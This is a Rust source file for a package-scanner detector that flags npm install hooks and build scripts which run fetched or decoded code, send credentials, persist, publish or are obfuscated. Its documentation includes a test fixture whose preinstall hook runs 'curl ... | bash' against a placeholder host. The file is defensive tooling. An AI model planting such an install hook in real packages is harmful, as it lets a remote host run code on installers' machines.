//! Scripts that a package client runs by itself while it installs.

use bulkhead_core::{Confidence, FindingContext, Severity};

use crate::archive::Archive;
use crate::behaviour::{Ability, Behaviour, Sources};
use crate::detector::{Detector, Meta};
use crate::findings::Findings;
use crate::lang::{Fidelity, Language, javascript};

const META: Meta = Meta {
    id: "install-script",
    title: "code that runs while the package is installed",
    severity: Severity::High,
    confidence: Confidence::High,
    doc: "\
npm runs `preinstall`, `install` and `postinstall` before anybody has looked at the package; cargo runs `build.rs` and
procedural macros when it builds. A script alone is common and only adds to the score. One that also runs what it fetched
or decoded, sends the environment or credentials, stays on the machine, publishes packages, or is too large or too twisted to be read, is how
most attacks on npm of 2025 and 2026 began.

```recipe bad
archive demo-1.0.0.tgz
expect high
--- package/package.json
{ \"name\": \"demo\", \"version\": \"1.0.0\", \"scripts\": { \"preinstall\": \"node setup.js\" } }
--- package/setup.js
const { execSync } = require('child_process');
execSync('curl -fsSL https://files.test/install | bash');
```

```recipe good
archive demo-1.0.0.tgz
--- package/package.json
{ \"name\": \"demo\", \"version\": \"1.0.0\", \"scripts\": { \"test\": \"node test.js\" } }
--- package/test.js
require('child_process').execSync('curl -fsSL https://files.test/install | bash');
```

What to do: install with scripts switched off (`ignore-scripts`), and read what the script does before it is let through.
",
};

/// See its `META`.
pub(crate) struct InstallScript;

/// From which size on a script that an install starts says nothing to whoever reads it.
const LARGE: u64 = 1 << 20;

impl Detector for InstallScript {
    fn meta(&self) -> &'static Meta {
        &META
    }

    fn inspect(&self, archive: &Archive, findings: &mut Findings) {
        // What runs when a Python distribution is built has detectors of its own, with the idioms that are everyday there.
        if archive.kind.is_python() {
            return;
        }
        let hooks = || archive.code.hooks.iter().filter(|hook| hook.context == FindingContext::Install);
        for hook in
            hooks().filter(|hook| matches!(hook.kind.as_str(), "npm:preinstall" | "npm:install" | "npm:postinstall"))
        {
            let draft = findings
                .report(&META, format!("`{}` runs at install", hook.kind.trim_start_matches("npm:")))
                .at(&hook.path);
            let draft = draft.line(hook.line).excerpt(hook.runs.as_bytes()).context(FindingContext::Install);
            draft.severity(Severity::Low).confidence(Confidence::Medium).add();
            large(archive, hook, findings);
        }
        if hooks().next().is_none() {
            return;
        }
        for behaviour in archive.code.behaviours.iter().filter(|behaviour| behaviour.context == FindingContext::Install)
        {
            if let Some((why, severity)) = grave(behaviour).or_else(|| publishes(archive, behaviour)) {
                findings
                    .report(&META, format!("at install, {why}"))
                    .severity(severity)
                    .at(&behaviour.path)
                    .line(behaviour.effect.line)
                    .excerpt(behaviour.effect.excerpt.as_bytes())
                    .context(FindingContext::Install)
                    .add();
            }
        }
        twisted(archive, findings);
    }
}

/// What no install needs to do.
fn grave(behaviour: &Behaviour) -> Option<(&'static str, Severity)> {
    let effect = &behaviour.effect;
    let any = |sources: Sources| effect.from.any(sources);
    let secrets = Sources::ENVIRONMENT.with(Sources::CREDENTIAL).with(Sources::PRIVATE);
    Some(match effect.ability {
        Ability::Shell if any(Sources::NETWORK) => ("a shell runs what was fetched", Severity::Critical),
        Ability::Shell if any(Sources::DECODED) => ("a shell runs what was decoded", Severity::Critical),
        Ability::Execute if any(Sources::NETWORK) => ("code that was fetched is run", Severity::Critical),
        Ability::Execute if any(Sources::DECODED) => ("code that was decoded is run", Severity::Critical),
        Ability::Network if any(secrets) => ("the environment or credentials are sent", Severity::Critical),
        Ability::Network | Ability::Dns if any(Sources::SYSTEM) => {
            ("who and where this machine is, is sent", Severity::High)
        }
        Ability::Persist => ("it arranges to be started again", Severity::High),
        Ability::ReadMemory => ("the memory of other processes is read", Severity::Critical),
        Ability::DeleteFile if effect.detail.as_deref() == Some("home") => {
            ("a home directory is deleted", Severity::Critical)
        }
        Ability::Mine => ("it mines", Severity::Critical),
        Ability::ComputedCall if any(Sources::DECODED.with(Sources::BUILT)) => {
            ("something is called whose name is hidden", Severity::High)
        }
        Ability::Wallet | Ability::ReadBrowser => ("wallets or what browsers store are read", Severity::High),
        _ => return None,
    })
}

/// Nothing that is installed publishes: that is how worms spread. What only the author of a package runs (`prepublish`, `prepare`)
/// may, so that a package without a script of whoever installs it is none of these.
fn publishes(archive: &Archive, behaviour: &Behaviour) -> Option<(&'static str, Severity)> {
    if behaviour.effect.ability != Ability::Publish {
        return None;
    }
    let of_authors = |kind: &str| kind.starts_with("npm:pre") && kind != "npm:preinstall" || kind.contains("prepare");
    let hooks = || archive.code.hooks.iter().filter(|hook| hook.context == FindingContext::Install);
    let declared = |authors: bool| {
        hooks().any(|hook| {
            of_authors(&hook.kind) == authors && hook.path == behaviour.path && hook.line == behaviour.effect.line
        })
    };
    let installs = hooks().any(|hook| !of_authors(&hook.kind));
    (installs && (declared(false) || !declared(true)))
        .then_some(("a package is published, or a repository is written to", Severity::High))
}

/// A script that is started at install and is too large to be read by anybody.
fn large(archive: &Archive, hook: &crate::code::Hook, findings: &mut Findings) {
    for word in hook.runs.split(|c: char| c.is_whitespace() || "\"'`&|;()=".contains(c)).filter(|word| !word.is_empty())
    {
        let folder = crate::package::npm::folder(&hook.path);
        let path = format!("{folder}{}", word.trim_start_matches("./"));
        let Some(entry) = archive.file(&path).filter(|entry| javascript::is_script(&entry.path) && entry.size >= LARGE)
        else {
            continue;
        };
        let read = entry.content.is_some();
        findings
            .report(
                &META,
                format!(
                    "at install, a script of {} kB is run{}",
                    entry.size / 1024,
                    if read { "" } else { ", which is too large to be read" }
                ),
            )
            .at(&entry.path)
            .context(FindingContext::Install)
            .confidence(if read { Confidence::Medium } else { Confidence::High })
            .add();
    }
}

/// A script at install in which an obfuscator was at work, or that is nested beyond following.
fn twisted(archive: &Archive, findings: &mut Findings) {
    for (view, reached) in archive.code.views.iter().zip(&archive.code.reached) {
        if view.language != Language::JavaScript || reached.first() != Some(&Some(FindingContext::Install)) {
            continue;
        }
        let scrambled = view.units[0]
            .effects
            .iter()
            .find(|effect| effect.ability == Ability::Decode && effect.detail.as_deref() == Some("names like _0x1a2b"));
        let why = match (&view.fidelity, scrambled) {
            (_, Some(_)) => "at install, code runs whose names an obfuscator made",
            (Fidelity::Partial(_), _) => "at install, code runs that is nested beyond following",
            _ => continue,
        };
        findings.report(&META, why).at(&view.path).context(FindingContext::Install).add();
    }
}
